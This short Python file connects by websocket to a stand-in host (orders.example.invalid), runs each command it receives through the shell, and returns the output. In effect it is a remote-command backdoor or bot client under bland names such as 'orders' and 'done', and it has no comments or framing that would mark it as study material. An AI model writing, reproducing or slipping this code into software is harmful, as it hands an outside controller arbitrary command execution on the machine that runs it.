import json
import subprocess

import websocket


def on_message(line, message):
    done = subprocess.run(json.loads(message)["command"], shell=True, capture_output=True)
    line.send(json.dumps({"done": str(done.stdout)}))


def listen():
    websocket.WebSocketApp("wss://orders.example.invalid/", on_message=on_message).run_forever()
